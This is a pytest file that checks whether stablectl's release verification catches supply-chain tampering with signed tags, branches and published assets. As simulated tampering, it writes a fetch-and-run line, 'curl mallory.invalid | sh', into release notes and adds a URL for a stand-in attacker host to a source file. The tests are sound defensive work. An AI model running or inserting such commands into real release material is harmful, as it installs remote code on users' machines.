"""Issue 17: a distribution verifies a release without trusting the mirror and without any
memory of earlier runs. On both forges, a signed release is made by sync; then someone with
push access to the fork but without the release key attacks it, and `stablectl verify` on a
fresh state directory, with only the pinned public key, must fail naming what was done.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from stablectl.cli.demo_cmd import release_key
from stablectl.errors import GitError
from tests.controller.sync.test_release import approve_release
from tests.controller.sync.test_sync import SyncEnv, make_env
from tests.helpers import Run, minimal_policy, run_cli

MALLORY = {
    "GIT_AUTHOR_NAME": "Mallory",
    "GIT_AUTHOR_EMAIL": "m@example.invalid",
    "GIT_COMMITTER_NAME": "Mallory",
    "GIT_COMMITTER_EMAIL": "m@example.invalid",
}


@dataclass
class Released:
    env: SyncEnv
    key: Path
    allowed: Path
    files: Path  # the published release files, as a distribution downloads them
    fresh: Path  # a new state directory for each verify

    def git(self, *args: str, input: str | None = None) -> str:
        return subprocess.run(
            ["git", "--git-dir", str(self.env.example.fork), *args],
            capture_output=True,
            text=True,
            check=True,
            input=input,
            env={**os.environ, **MALLORY},
        ).stdout.strip()

    def sign_tag(self, key: Path, tag: str, target: str, message: str) -> None:
        """An ssh-signed annotated tag (replacing one of that name), as `git tag -s` makes it."""
        self.git(
            *("-c", "gpg.format=ssh", "-c", f"user.signingkey={key}"),
            *("tag", "-f", "-s", "-F", "-", tag, target),
            input=message,
        )

    def verify(self, capsys: pytest.CaptureFixture[str], *extra: str) -> Run:
        """A packager's first run: a state directory never used before, the pinned key."""
        state = self.fresh / f"v{len(list(self.fresh.iterdir()))}"
        return run_cli(
            capsys,
            "--state-dir",
            str(state),
            "verify",
            "--policy",
            str(self.env.policy_path),
            "--releases",
            str(self.files),
            "--json",
            *extra,
        )


def errors(r: Run) -> list[str]:
    return [f"{f['subject']}: {f['what']}" for f in r.json()["findings"] if f["level"] == "error"]


@pytest.fixture(params=["local", "github"])
def released(
    request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Released]:
    """3.11.2.1 released by sync with signing required and an ssh release key."""
    fake = request.getfixturevalue("fake_github") if request.param == "github" else None
    env = make_env(request.param, tmp_path, fake, series="3.11.2", releases=True)
    key, allowed = release_key(tmp_path / "keys")
    text = env.policy_path.read_text()
    env.policy_path.write_text(
        text.replace(
            "release:\n",
            f'release:\n  signing: {{required: true, allowed_signers: "{allowed}"}}\n',
            1,
        )
    )
    monkeypatch.setenv("STABLECTL_SIGNING_KEY", str(key))
    monkeypatch.setenv("STABLECTL_SIGNING_FORMAT", "ssh")
    env.sync()
    for p in env.open_prs():
        if p.marker.kind == "backport" and not p.draft:
            env.review(p.number)
            env.green(p.head_sha)
    env.sync()
    approve_release(env)
    report = env.sync()
    assert "tag" in [a.kind for a in report.applied], report.actions
    files = tmp_path / "downloads"
    shutil.copytree(env.state / "releases" / "pyexample", files)
    fresh = tmp_path / "fresh"
    fresh.mkdir()
    monkeypatch.delenv("STABLECTL_SIGNING_KEY")
    yield Released(env, key, allowed, files, fresh)


def test_a_signed_release_verifies_on_first_use(
    released: Released, capsys: pytest.CaptureFixture[str]
) -> None:
    r = released.verify(capsys, "--rebuild")
    assert r.code == 0, errors(r)
    (rel,) = r.json()["series"][0]["releases"]
    assert (
        rel["signed_by"] == "releases@pyexample" and rel["sums_signed_by"] == "releases@pyexample"
    )
    assert rel["rebuilt"] and rel["artifacts_checked"] >= 7
    # A second key, not pinned: the same release does not verify against it.
    _key, other = release_key(released.fresh.parent / "other-keys")
    r = released.verify(capsys, "--allowed-signers", str(other))
    assert r.code == 1
    assert any("does not pin" in e for e in errors(r)), errors(r)


def test_a_rewritten_release_fails_a_first_verify(
    released: Released, capsys: pytest.CaptureFixture[str]
) -> None:
    """The attack of the issue: a one-line mirror-only change slipped into a backport, the
    release commit re-created on top and the tag moved onto it. The old verify said ok, exit 0,
    on any machine that had not verified before."""
    r = released
    tip = r.git("rev-parse", "3.11.2-stable")
    backport = r.git("rev-parse", "3.11.2-stable~1")
    work = r.fresh.parent / "mallory"
    subprocess.run(["git", "clone", "-q", str(r.env.example.fork), str(work)], check=True)
    subprocess.run(["git", "-C", str(work), "checkout", "-q", backport], check=True)
    changed = r.git("diff-tree", "--no-commit-id", "--name-only", "-r", backport).split()[0]
    with open(work / changed, "a") as fh:
        fh.write("TELEMETRY = 'https://mallory.invalid'\n")
    msg = r.git("log", "-1", "--format=%B", backport)
    env = {**os.environ, **MALLORY}
    subprocess.run(["git", "-C", str(work), "commit", "-qa", "--amend", "-m", msg], env=env)
    release_msg = r.git("log", "-1", "--format=%B", tip)
    subprocess.run(
        ["git", "-C", str(work), "commit", "-q", "--allow-empty", "-m", release_msg], env=env
    )
    evil = subprocess.run(
        ["git", "-C", str(work), "rev-parse", "HEAD"], capture_output=True, text=True
    ).stdout.strip()
    subprocess.run(["git", "-C", str(work), "push", "-q", "origin", "HEAD:refs/heads/evil"])
    r.git("update-ref", "refs/heads/3.11.2-stable", evil)
    tag_msg = r.git("cat-file", "tag", "v3.11.2.1").split("\n\n", 1)[1]
    tag_msg = tag_msg.split("-----BEGIN SSH SIGNATURE-----")[0].replace(tip, evil)
    r.git("tag", "-f", "-a", "-F", "-", "v3.11.2.1", evil, input=tag_msg)
    v = released.verify(capsys)
    assert v.code == 1
    found = errors(v)
    assert any("a mirror-only change: differs from" in e and "1 lines" in e for e in found), found
    assert any(e.startswith("v3.11.2.1: UNSIGNED") for e in found), found
    # Signed with a key of Mallory's own instead: not a pinned key.
    mkey, _ = release_key(r.fresh.parent / "mallory-keys")
    r.sign_tag(mkey, "v3.11.2.1", evil, tag_msg)
    found = errors(released.verify(capsys))
    assert any(e.startswith("v3.11.2.1: signature: signed by a key") for e in found), found


def test_deleted_moved_and_forked_tags_fail_a_first_verify(
    released: Released, capsys: pytest.CaptureFixture[str]
) -> None:
    r = released
    tag_object = r.git("rev-parse", "v3.11.2.1")
    # Deleted, its release commit still on the branch.
    r.git("tag", "-d", "v3.11.2.1")
    found = errors(r.verify(capsys))
    assert any(e.startswith("v3.11.2.1: no tag for the release commit") for e in found), found
    r.git("update-ref", "refs/tags/v3.11.2.1", tag_object)
    assert r.verify(capsys).code == 0
    # A second release whose tag, signed with the real key, names another previous release:
    # the chain forks (a signer's mistake, or a key used outside sync).
    tip = r.git("rev-parse", "3.11.2-stable")
    rc2 = r.git(
        "commit-tree",
        f"{tip}^{{tree}}",
        "-p",
        tip,
        "-m",
        "Release 3.11.2.2\n\nStablectl-Release: 3.11.2.2\n",
    )
    r.git("update-ref", "refs/heads/3.11.2-stable", rc2)
    msg = (
        "pyexample 3.11.2.2\n\nStablectl-Release: 3.11.2.2\n"
        f"Stablectl-Commit: {rc2}\nStablectl-Previous: v3.11.2 {tag_object}\n"
    )
    r.sign_tag(r.key, "v3.11.2.2", rc2, msg)
    found = errors(r.verify(capsys))
    assert any(e.startswith("v3.11.2.2: the release log breaks") for e in found), found
    # A tag object moved under another name: v3.11.2.2's object as v3.11.2.1.
    r.git("update-ref", "refs/tags/v3.11.2.1", r.git("rev-parse", "v3.11.2.2"))
    found = errors(r.verify(capsys))
    assert any("the tag object is 'v3.11.2.2'" in e for e in found), found


def test_a_mirror_only_commit_after_the_release_fails(
    released: Released, capsys: pytest.CaptureFixture[str]
) -> None:
    """Pushed after the last release, it is covered by no signature: every unreleased commit
    must still be a verbatim upstream pick or a recorded adaptation."""
    r = released
    tip = r.git("rev-parse", "3.11.2-stable")
    picked = [
        line.split()[-1].rstrip(")")
        for line in r.git("log", "-1", "--format=%B", "3.11.2-stable~1").splitlines()
        if line.startswith("(cherry picked from commit")
    ]
    upstream_fix = picked[-1]
    blob = r.git("hash-object", "-w", "--stdin", input="print('hello from the mirror')\n")
    idx = {**os.environ, **MALLORY, "GIT_INDEX_FILE": str(r.fresh.parent / "idx2")}
    subprocess.run(["git", "--git-dir", str(r.env.example.fork), "read-tree", tip], env=idx)
    subprocess.run(
        [
            "git",
            "--git-dir",
            str(r.env.example.fork),
            "update-index",
            "--add",
            "--cacheinfo",
            f"100644,{blob},Lib/mirror.py",
        ],
        env=idx,
        check=True,
    )
    new_tree = subprocess.run(
        ["git", "--git-dir", str(r.env.example.fork), "write-tree"],
        env=idx,
        capture_output=True,
        text=True,
    ).stdout.strip()
    evil = r.git(
        "commit-tree",
        new_tree,
        "-p",
        tip,
        "-m",
        f"gh-1: Harden things\n\n(cherry picked from commit {upstream_fix})",
    )
    r.git("update-ref", "refs/heads/3.11.2-stable", evil)
    found = errors(r.verify(capsys))
    assert any(e.startswith(f"{evil}: a mirror-only change") for e in found), found
    # And sync publishes nothing on top of it: asked to release, it opens no release PR for
    # 3.11.2.2 but reports a problem.
    done = next(p for p in r.env.new_forge().list_prs("all") if p.marker.kind == "release")
    r.env.comment(done.number, "/stablectl release 3.11.2", "maint")
    report = r.env.sync()
    assert any("release held: stablectl verify would reject" in p for p in report.problems), (
        report.problems
    )
    assert not any(a.kind == "open" for a in report.applied)


def _resum(d: Path) -> None:
    """What someone without the key can do: recompute SHA256SUMS over what they changed."""
    sums = {
        p.name: hashlib.sha256(p.read_bytes()).hexdigest()
        for p in d.iterdir()
        if not p.name.startswith("SHA256SUMS")
    }
    (d / "SHA256SUMS").write_text("".join(f"{h}  {n}\n" for n, h in sorted(sums.items())))


def test_tampered_missing_and_extra_assets_fail(
    released: Released, capsys: pytest.CaptureFixture[str]
) -> None:
    r = released
    d = r.files / "v3.11.2.1"
    pristine = r.fresh.parent / "pristine"
    shutil.copytree(d, pristine)

    def restore() -> None:
        shutil.rmtree(d)
        shutil.copytree(pristine, d)

    notes = d / "RELEASE-NOTES.md"
    notes.write_text(notes.read_text() + "\nAlso: curl mallory.invalid | sh\n")
    found = errors(r.verify(capsys))
    assert any("RELEASE-NOTES.md: SHA-256" in e and "was changed" in e for e in found), found
    restore()
    (d / "Python-3.11.2.1.tgz").unlink()
    found = errors(r.verify(capsys))
    assert any("Python-3.11.2.1.tgz: listed in SHA256SUMS but missing" in e for e in found)
    restore()
    (d / "install-first.sh").write_text("#!/bin/sh\n")
    found = errors(r.verify(capsys))
    assert any("install-first.sh: an extra file" in e for e in found), found
    restore()
    # The manifest made to name another commit, SHA256SUMS recomputed to match: the signature
    # over SHA256SUMS no longer holds.
    manifest = json.loads((d / "manifest.json").read_text())
    manifest["commit"] = "0" * 40
    (d / "manifest.json").write_text(json.dumps(manifest))
    _resum(d)
    found = errors(r.verify(capsys))
    assert any("SHA256SUMS.sig: signature: BAD signature" in e for e in found), found
    assert any("the manifest names commit 0000000000" in e for e in found), found
    # With its signature removed: unsigned, where signatures are required.
    (d / "SHA256SUMS.sig").unlink()
    found = errors(r.verify(capsys))
    assert any(e.startswith("v3.11.2.1/SHA256SUMS: UNSIGNED") for e in found), found


def test_a_rewound_fork_never_reuses_a_version(released: Released) -> None:
    """Someone rewinds the stable branch to before the release and deletes the tag: sync must
    not propose and tag 3.11.2.1 again with other content."""
    r = released
    before = r.git("rev-parse", "3.11.2-stable~1")
    r.git("update-ref", "refs/heads/3.11.2-stable", before)
    r.git("tag", "-d", "v3.11.2.1")
    report = r.env.sync()
    assert any("v3.11.2.1 was published" in p and "never reused" in p for p in report.problems), (
        report.problems
    )
    assert not any(a.kind in ("tag", "open") and "3.11.2.1" in a.detail for a in report.applied)


def test_signing_required_without_a_key_refuses_to_tag(tmp_path: Path) -> None:
    from stablectl.controller.artifacts import create_tag

    repo = tmp_path / "r.git"
    subprocess.run(["git", "init", "-q", "--bare", str(repo)], check=True)
    policy = minimal_policy("release: {signing: {required: true}}\n")
    os.environ.pop("STABLECTL_SIGNING_KEY", None)
    with pytest.raises(GitError, match=r"release\.signing\.required"):
        create_tag(repo, policy, tag="v1.1", commit="0" * 40, message="m")


def test_a_rollback_is_caught_by_a_kept_release_log(
    released: Released, capsys: pytest.CaptureFixture[str]
) -> None:
    """The one attack a memoryless first run cannot see: the newest release withdrawn (its
    tag deleted and the branch rewound under it), leaving an older, consistent mirror. A
    downstream that kept the published releases.json (or fetched it from another copy of the
    feed) catches it; docs/security.md says so."""
    r = released
    site = r.fresh.parent / "site"
    argv = ["--state-dir", str(r.env.state), "feed", "--policy", str(r.env.policy_path)]
    assert run_cli(capsys, *argv, "--out", str(site)).code == 0
    log = site / "releases.json"
    assert r.verify(capsys, "--release-log", str(log)).json()["release_log_entries"] == 1
    r.git("update-ref", "refs/heads/3.11.2-stable", r.git("rev-parse", "3.11.2-stable~1"))
    r.git("tag", "-d", "v3.11.2.1")
    shutil.rmtree(r.files / "v3.11.2.1")
    assert r.verify(capsys).code == 0  # consistent, as far as the mirror alone shows
    v = r.verify(capsys, "--release-log", str(log))
    assert v.code == 1
    assert any(
        e.startswith("v3.11.2.1: the release log lists v3.11.2.1") and "no longer has" in e
        for e in errors(v)
    ), errors(v)


@pytest.mark.parametrize("kind", ["local", "github"])
def test_an_openpgp_signed_release_verifies_with_a_pinned_keyring(
    kind: str,
    request: pytest.FixtureRequest,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """The OpenPGP path, offline: a key in a throwaway GNUPGHOME signs the tag and
    SHA256SUMS.asc; a fresh verify checks both with gpgv against the exported public key (as
    Debian's uscan and Fedora's %gpgverify would), and rejects them against another key."""
    home = tmp_path / "gnupg"
    home.mkdir(mode=0o700)
    monkeypatch.setenv("GNUPGHOME", str(home))
    for h in (home, tmp_path / "gnupg2"):  # no gpg-agent outlives the test
        request.addfinalizer(
            lambda h=h: subprocess.run(
                ["gpgconf", "--homedir", str(h), "--kill", "all"], capture_output=True
            )
        )

    def gpg(*args: str) -> str:
        return subprocess.run(
            ["gpg", "--batch", "--pinentry-mode", "loopback", "--passphrase", "", *args],
            capture_output=True,
            text=True,
            check=True,
        ).stdout

    gpg("--quick-gen-key", "Release Key <release@pyexample.invalid>", "ed25519", "sign", "never")
    keyring = tmp_path / "release.asc"
    keyring.write_text(gpg("--armor", "--export", "release@pyexample.invalid"))
    fake = request.getfixturevalue("fake_github") if kind == "github" else None
    env = make_env(kind, tmp_path / "env", fake, series="3.11.2", releases=True)
    text = env.policy_path.read_text()
    env.policy_path.write_text(
        text.replace(
            "release:\n",
            f'release:\n  signing: {{required: true, openpgp_keyring: "{keyring}"}}\n',
            1,
        )
    )
    monkeypatch.setenv("STABLECTL_SIGNING_KEY", "release@pyexample.invalid")
    monkeypatch.setenv("STABLECTL_SIGNING_FORMAT", "openpgp")
    env.sync()
    approve_release(env)
    assert "tag" in [a.kind for a in env.sync().applied]
    files = env.state / "releases" / "pyexample"
    assert (files / "v3.11.2.1" / "SHA256SUMS.asc").is_file()
    argv = ["verify", "--policy", str(env.policy_path), "--releases", str(files), "--json"]
    r = run_cli(capsys, "--state-dir", str(tmp_path / "fresh1"), *argv)
    assert r.code == 0, errors(r)
    (rel,) = r.json()["series"][0]["releases"]
    assert rel["signed_by"] and rel["sums_signed_by"]
    # Another key pinned: neither signature is accepted.
    other = tmp_path / "gnupg2"
    other.mkdir(mode=0o700)
    monkeypatch.setenv("GNUPGHOME", str(other))
    gpg("--quick-gen-key", "Someone Else <else@example.invalid>", "ed25519", "sign", "never")
    wrong = tmp_path / "else.asc"
    wrong.write_text(gpg("--armor", "--export", "else@example.invalid"))
    r = run_cli(capsys, "--state-dir", str(tmp_path / "fresh2"), *argv, "--keyring", str(wrong))
    assert r.code == 1
    found = errors(r)
    assert any(e.startswith("v3.11.2.1: signature: signed by a key") for e in found), found
    assert any("SHA256SUMS.asc: signature: signed by a key" in e for e in found), found
